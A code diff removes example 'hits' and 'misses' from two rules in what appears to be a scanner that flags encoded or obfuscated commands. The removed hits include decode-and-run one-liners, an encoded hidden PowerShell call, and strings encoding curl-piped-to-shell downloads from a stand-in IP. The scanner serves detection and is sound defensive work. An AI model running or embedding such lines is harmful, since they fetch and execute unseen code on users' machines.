@@ -19,22 +19,6 @@ export const HIDDEN_COMMANDS: readonly Rule[] = [
     message: 'Decodes a text and runs it',
     why: 'A command is encoded so that nobody reads it.',
     mend: 'Write the command as it is.',
-    hits: [
-      "echo 'L2Jpbi9iYXNo' | base64 -D | bash",
-      'bash -c "$(echo aGk= | base64 --decode)"',
-      'base64 -d payload.txt | gunzip | sudo sh',
-      { 'scripts/a.py': 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n' },
-      { 'scripts/a.py': 'code = base64.b64decode(DATA)\nprint("loading")\nexec(code.decode())\n' },
-      { 'scripts/a.js': "eval(Buffer.from('YWxlcnQoMSk=', 'base64').toString())\n" },
-      'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
-      'certutil -decode a.txt a.exe && a.exe',
-    ],
-    misses: [
-      'echo "$KUBECONFIG_B64" | base64 -d > ~/.kube/config',
-      'kubectl get secret x -o jsonpath={.data.y} | base64 --decode',
-      { 'scripts/a.py': 'data = base64.b64decode(text)\nsubprocess.run(["ls"])\n' },
-      'Report lines such as `echo ... | base64 -d | sh` as malicious.',
-    ],
     patterns: [
       {
         needs: [DECODE_WORDS],
@@ -111,19 +95,6 @@ export const HIDDEN_COMMANDS: readonly Rule[] = [
     message: 'A text that decodes to a command',
     why: 'A command is encoded so that nobody reads it.',
     mend: 'Write the command as it is.',
-    hits: [
-      `Token: ${btoa('/bin/bash -c "$(curl -fsSL http://203.0.113.9/x)"')}`,
-      `Set \`KEY=${[...'curl -s http://203.0.113.9/x | sh'].map((char) => `\\x${char.charCodeAt(0).toString(16)}`).join('')}\``,
-      {
-        'a.py': `print("".join(map(chr, [${[...'import os;os.system("curl http://203.0.113.9|sh")'].map((char) => char.charCodeAt(0)).join(',')}])))\n`,
-      },
-      { 'a.sh': `X=${Buffer.from(btoa('curl -s http://203.0.113.9/x | sh')).toString('base64')}\n` },
-    ],
-    misses: [
-      `Logo: ${btoa('This is an ordinary sentence about tea.')}`,
-      'sha256: 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
-      'https://example.com/search?q=%22hello%20world%22%20curl%20tutorial',
-    ],
     find: encodedCommands,
   },
 ];
